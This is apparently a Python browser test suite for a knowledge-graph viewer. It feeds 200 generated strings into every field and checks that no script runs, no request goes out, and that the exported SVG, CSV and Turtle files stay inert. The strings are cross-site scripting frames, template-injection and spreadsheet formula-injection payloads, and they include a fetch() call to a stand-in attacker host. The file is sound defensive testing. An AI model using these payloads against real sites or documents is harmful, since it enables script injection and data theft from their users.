"""Whatever stands in the text is text: 200 hostile strings through every field in a real browser."""

from __future__ import annotations

import csv
import io
from itertools import product
from xml.etree import ElementTree

import pyoxigraph as ox
import pytest

from kg.view.graph import Edge, Fact, Node, Source, Term, ViewGraph
from kg.view.output import Page as Sheet
from tests.view.conftest import Open
from tests.view.test_explore import download

DO = "window.ran=1,alert(1),fetch(`https://evil.example`)"
FRAMES = [
    "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror='{}'>", "<svg onload=\"{}\">",
    "'><img src=x onerror={}>", "\"><svg/onload={}>", "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "javascript:{}", "JaVaScRiPt:{}", "data:text/html,<script>{}</script>", "<!--<script>{}//-->",
    "]]><script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}", "{{% for x in ().__class__ %}}{}", "${{{}}}",
    "\\u003cscript\\u003e{}",
    "<a href='javascript:{}'>x</a>", "<style>@import 'https://evil.example';</style>{}",
    "<base href='https://evil.example'>{}",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>{}", "<link rel=stylesheet href='https://evil.example'>{}",
    "=HYPERLINK(\"https://evil.example\",\"{}\")", "+cmd|'{}'!A0", "@SUM(1){}", "-1+{}",
]  # fmt: skip
TWISTS = [
    "{}",
    "\u202e{}",
    "{}\u2028\u2029\r\n",
    "\x00{}\ud800",
    "A" * 300 + "{}",
    "href {}",
    "__proto__ {}",
    "%0a{}%00",
]
STRINGS = [twist.format(frame.format(DO)) for frame, twist in product(FRAMES, TWISTS)]


def hostile() -> ViewGraph:
    terms = tuple(Term(text, text, text, text, text) for text in STRINGS)
    sources = tuple(Source(text, text, text, text) for text in STRINGS)
    facts = tuple(
        Fact(at, at, text, text, at, text if at else "2025", text, text, 0.5, text)
        for at, text in enumerate(STRINGS)
    )
    kinds = ("ward", "person", "post", "event")
    nodes = tuple(
        Node(f"{text}{at}", kinds[at % 4], text, (text,), at - at % 4, text if at % 8 == 3 else "", (at,))
        for at, text in enumerate(STRINGS)
    )
    edges = tuple(Edge(at, (at + 1) % len(nodes), at, (at,)) for at in range(len(nodes)))
    return ViewGraph(
        STRINGS[1], nodes, edges, facts, terms, sources, start=f"selected={STRINGS[3]}&at={STRINGS[4]}"
    )


GRAPH = hostile()


def test_two_hundred_strings() -> None:
    assert len(set(STRINGS)) == 200


@pytest.mark.parametrize("locale", ["vi-VN", "en-GB"])
def test_nothing_runs_and_nothing_is_requested(open_page: Open, locale: str) -> None:
    page = open_page(GRAPH, locale=locale)
    for part in ("relations", "wards"):
        page.click(f"[data-key=part-{part}]")
    page.click("#table-tool")
    for button in page.locator("#table tbody button").all()[::7]:
        button.click()
        page.keyboard.press("Escape")
    for text in STRINGS[::11]:
        page.fill("#find", text)
        page.press("#find", "Enter")
    page.focus("#graph")
    page.keyboard.press("Home")
    page.keyboard.press("p")
    page.fill("#find", "script")
    page.press("#find", "Enter")
    page.click("#time-tool")
    page.hover("#graph", position={"x": 700, "y": 300})
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") is None
    assert page.locator("script").count() == 3
    assert (
        page.locator("img, iframe, base, object, embed, a[href^='javascript' i], a[href^='data' i]").count()
        == 0
    )


def test_files_it_saves_are_harmless(open_page: Open) -> None:
    page = open_page(GRAPH)
    drawn = {item.tag.rpartition("}")[2] for item in ElementTree.fromstring(download(page, "SVG")).iter()}
    assert drawn <= {"svg", "rect", "g", "line", "path", "circle", "text"}
    cells = [
        cell for row in csv.reader(io.StringIO(download(page, "CSV").decode("utf-8-sig"))) for cell in row
    ]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert list(ox.parse(download(page, "Turtle"), format=ox.RdfFormat.TURTLE))


def test_without_scripts_too(open_page: Open) -> None:
    page = open_page(GRAPH, java_script_enabled=False)
    assert page.locator("#plain tbody tr").count() == 200
    assert page.locator("img, iframe, base, object, embed, a").count() == 0


def test_in_a_notebook_it_stays_in_its_frame(open_page: Open, tmp_path: object) -> None:
    frame = Sheet(GRAPH)._repr_html_()
    holder = f"<!doctype html><html data-ready><title>n</title>{frame}"
    file = getattr(tmp_path, "joinpath")("notebook.html")  # noqa: B009
    file.write_text(holder, "utf-8")
    page = open_page(file.as_uri())
    inner = page.frames[1]
    inner.wait_for_selector("html[data-ready]")
    inner.fill("#find", "script")
    inner.press("#find", "Enter")
    assert inner.is_visible("#details")
    assert page.evaluate("window.ran") is None
    assert 'sandbox="allow-scripts allow-downloads allow-popups"' in frame


def test_a_frame_of_a_few_pixels_opens(open_page: Open) -> None:
    page = open_page(GRAPH, viewport={"width": 40, "height": 30})
    assert page.locator("canvas").count() == 1
